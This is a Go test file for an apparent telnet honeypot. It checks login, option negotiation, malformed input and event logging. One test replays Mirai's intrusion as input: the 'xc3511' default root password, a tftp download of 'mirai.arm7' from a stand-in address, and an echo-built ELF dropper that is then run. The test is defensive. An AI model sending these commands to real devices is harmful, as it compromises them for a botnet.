package telnet_test

import (
	"bufio"
	"io"
	"net"
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/telnet"
	"decnet/decoy/trap"
	"decnet/decoy/traptest"
)

const password = "xc3511"

func bench(t *testing.T, id trap.Identity) *traptest.Bench {
	t.Helper()
	return traptest.New(t, telnet.New, traptest.Options{Service: "telnet", Config: trap.Config{"password": password}, Identity: id})
}

// until reads up to a text, and returns all that came.
func until(t *testing.T, r *bufio.Reader, text string) string {
	t.Helper()
	var got strings.Builder
	for !strings.HasSuffix(got.String(), text) {
		c, err := r.ReadByte()
		require.NoErrorf(t, err, "%q came, and not %q", got.String(), text)
		got.WriteByte(c)
	}
	return got.String()
}

func send(t *testing.T, c net.Conn, text string) {
	t.Helper()
	_, err := io.WriteString(c, text)
	require.NoError(t, err)
}

// The way of the Mirai family, byte for byte as its scanner and loader go.
func TestTelnet_Mirai(t *testing.T) {
	t.Parallel()
	b := bench(t, trap.Identity{System: "embedded", Hostname: "ipcam"})
	c := b.Dial(23)
	r := bufio.NewReader(c)
	opening := make([]byte, 12)
	_, err := io.ReadFull(r, opening)
	require.NoError(t, err)
	assert.Equal(t, "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03", string(opening))
	send(t, c, "\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x01\xff\xfe\x03")
	until(t, r, "ipcam login: ")
	send(t, c, "root\r\n")
	assert.Equal(t, "root\r\nPassword: ", until(t, r, "Password: "))
	send(t, c, password+"\r\n")
	until(t, r, "# ")
	for _, command := range []string{"enable", "system", "shell", "sh"} {
		send(t, c, command+"\r\n")
		until(t, r, "# ")
	}
	send(t, c, "/bin/busybox ECCHI\r\n")
	assert.Contains(t, until(t, r, "# "), "\r\nECCHI: applet not found\r\n")
	send(t, c, "/bin/busybox cat /bin/echo\r\n")
	assert.Contains(t, until(t, r, "# "), "\x7fELF\x01\x01\x01", "the loader reads the processor from it")
	send(t, c, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n")
	until(t, r, "ECCHI: applet not found\r\n")
	send(t, c, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.7; /bin/busybox chmod 777 dvrHelper\r\n")
	until(t, r, "chmod: dvrHelper: No such file or directory\r\n")
	send(t, c, `echo -ne '\x7f\x45\x4c\x46' > up; /bin/busybox chmod 777 up; ./up; exit`+"\r\n")
	_, err = io.Copy(io.Discard, r)
	require.NoError(t, err, "the server closes")

	auth := traptest.Fields(b.Wait("auth_attempt"))
	assert.Equal(t, []string{"root", password, "success"}, []string{auth["username"], auth["password"], auth["status"]})
	assert.Equal(t, "WONT 1,WONT 31,DONT 1,DONT 3", traptest.Fields(b.Wait("negotiation"))["options"])
	assert.Equal(t, "tftp://198.51.100.7/mirai.arm7", traptest.Fields(b.Wait("file_download"))["url"])
	assert.Equal(t, "/bin/busybox ECCHI", traptest.Fields(b.WaitN("command", 5)[4])["command"])
	assert.Equal(t, "4", traptest.Fields(b.Wait("file_upload"))["size"])
}

func TestTelnet_WrongPassword(t *testing.T) {
	t.Parallel()
	b := bench(t, trap.Identity{})
	c := b.Dial(23)
	r := bufio.NewReader(c)
	// The terminal is told when it is asked for; other options are refused.
	send(t, c, "\xff\xfb\x18\xff\xfb\x22")
	until(t, r, "srv-web-07 login: ")
	until(t, r, "\xff\xfa\x18\x01\xff\xf0\xff\xfe\x22")
	send(t, c, "\xff\xfa\x18\x00XTERM\xff\xf0admin\r\x00")
	assert.Equal(t, "admin\r\nPassword: ", until(t, r, "Password: "))
	send(t, c, "b\xff\xffd\r\x00")
	assert.Equal(t, "\r\n\r\nLogin incorrect\r\nsrv-web-07 login: ", until(t, r, "login: "))
	send(t, c, "root\n"+password+"\n")
	assert.Contains(t, until(t, r, "~# "), "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY")
	send(t, c, "echo $TERM\n")
	assert.Equal(t, "echo $TERM\r\nxterm\r\nroot@srv-web-07:~# ", until(t, r, "~# "))
	auth := traptest.Fields(b.Wait("auth_attempt"))
	assert.Equal(t, "b\xffd", auth["password"])
	assert.Equal(t, "failed", auth["status"])
	assert.Equal(t, "XTERM", traptest.Fields(b.Wait("terminal"))["term"])
}

func TestTelnet_Nonsense(t *testing.T) {
	t.Parallel()
	b := bench(t, trap.Identity{Distro: "alpine"})
	for _, text := range []string{
		strings.Repeat("\xff\xfb\x55", 10_000), "\xff\xfa" + strings.Repeat("x", 100_000), strings.Repeat("A", 200_000),
		"\xff", strings.Repeat("\r\n", 500), "GET / HTTP/1.0\r\n\r\n",
	} {
		c := b.Dial(23)
		go func() {
			_, _ = io.WriteString(c, text)
			_ = c.(*net.TCPConn).CloseWrite()
		}()
		out, _ := io.ReadAll(c)
		assert.Contains(t, string(out), "srv-web-07 login: ")
		assert.Less(t, len(out), 300_000)
	}
}

func TestTelnet_RealClient(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("telnet"); err != nil {
		t.Skip("telnet is not installed")
	}
	b := bench(t, trap.Identity{Distro: "ubuntu22"})
	host, port, err := net.SplitHostPort(b.Listen(23))
	require.NoError(t, err)
	cmd := exec.CommandContext(t.Context(), "telnet", host, port)
	in, err := cmd.StdinPipe()
	require.NoError(t, err)
	out, err := cmd.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	r := bufio.NewReader(out)
	for _, step := range [][2]string{{"login: ", "root\n"}, {"Password: ", password + "\n"}, {"~# ", "id\n"}, {"uid=0(root)", "exit\n"}} {
		until(t, r, step[0])
		_, err := io.WriteString(in, step[1])
		require.NoError(t, err)
	}
	_, err = io.Copy(io.Discard, r)
	require.NoError(t, err)
	_ = cmd.Wait() // it says that the other side has closed
	assert.Equal(t, "id", traptest.Fields(b.Wait("command"))["command"])
	assert.NotEmpty(t, traptest.Fields(b.Wait("negotiation"))["options"])
}
